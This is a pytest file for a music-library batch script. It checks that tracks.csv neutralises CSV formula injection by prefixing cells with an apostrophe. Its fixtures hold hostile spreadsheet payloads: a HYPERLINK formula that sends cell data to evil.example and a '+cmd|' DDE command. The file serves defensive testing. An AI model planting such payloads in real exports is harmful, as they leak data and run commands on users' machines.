"""``outputs/music/tracks.csv`` is opened in a spreadsheet: a tag or a folder name that
begins as a formula does (``=HYPERLINK(...)``, ``+cmd|...``, ``-2+3``, ``@SUM(...)``) must
reach it as text, never as a formula the spreadsheet runs (CSV injection). Read back with
Python's csv module, as a spreadsheet parses the file."""

from __future__ import annotations

import csv
import io
import json

from tests.helpers import run_script

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1"]  # fmt: skip


def test_no_cell_of_tracks_csv_begins_a_formula(tmp_path, music_library):
    music_library(tmp_path / "lib", {
        f"=Band/Album/0{i} - x.flac": {
            "tags": {"title": title, "artist": "@Artist", "album": "-Album", "tracknumber": str(i),
                     "date": "2001", "albumartist": "=Band"}}
        for i, title in enumerate(FORMULAS, 1)})  # fmt: skip
    home = tmp_path / "home"
    home.mkdir()
    batch = run_script("process_music_batch.py", "--home", home, "--library", tmp_path / "lib",
                        "--offline")  # fmt: skip
    assert batch.returncode in (0, 1), batch.stdout + batch.stderr
    text = (home / "outputs" / "music" / "tracks.csv").read_text("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(FORMULAS), text
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # Each value is still all there, behind the apostrophe a spreadsheet shows as text (the
    # tab's title as the batch's whitespace fix left it: its JSON record says so).
    (record,) = (home / "outputs" / "music" / "artists").glob("*.json")
    titles = [t["tags"]["title"] for t in json.loads(record.read_text("utf-8"))["tracks"]]
    assert sorted(r["title"] for r in rows) == sorted(f"'{t}" for t in titles)
    assert {t.lstrip() for t in titles} == {t.lstrip() for t in FORMULAS}
    assert {r["artist_folder"] for r in rows} == {"'=Band"}
    assert {r["artist"] for r in rows} == {"'@Artist"}
    assert {r["album"] for r in rows} == {"'-Album"}


def test_rows_an_older_release_kept_reach_tracks_csv_as_text_too(tmp_path, music_library):
    """A home upgraded from a release that kept its rows as they were: an artist not
    processed again still has its rows in ``status/music/csv_rows.jsonl``, and the next
    batch's ``tracks.csv`` holds them as text all the same, every other row as it was."""
    music_library(tmp_path / "lib", {
        "New/Album/01 - x.flac": {"tags": {"title": "x", "artist": "New", "album": "Album",
                                           "tracknumber": "1", "date": "2001"}}})  # fmt: skip
    home = tmp_path / "home"
    old = ('=Old,"=HYPERLINK(""http://evil.example/"",""x"")/01 - y.flac",flac,@SUM(1+1),'
           "Plain Artist,,,,,,,,,,,,,,,1.0,1232,vorbis,0,\n")
    plain = "Plain,Album/01 - z.flac,flac,Song,Plain Artist,,,,,,,,,,,,,,,1.0,1232,vorbis,0,\n"
    (home / "status" / "music").mkdir(parents=True)
    (home / "status" / "music" / "csv_rows.jsonl").write_text(
        json.dumps({"key": "old-0123abcd", "rows": old}) + "\n"
        + json.dumps({"key": "plain-0123abcd", "rows": plain}) + "\n", "utf-8")  # fmt: skip
    batch = run_script("process_music_batch.py", "--home", home, "--library", tmp_path / "lib",
                        "--offline")  # fmt: skip
    assert batch.returncode in (0, 1), batch.stdout + batch.stderr
    text = (home / "outputs" / "music" / "tracks.csv").read_text("utf-8")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) == 3, text
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    (older,) = (r for r in rows if r[0] == "'=Old")
    assert older[1].startswith("'=HYPERLINK(") and older[3] == "'@SUM(1+1)"
    assert plain in text  # a row with nothing to hold, byte for byte as it was
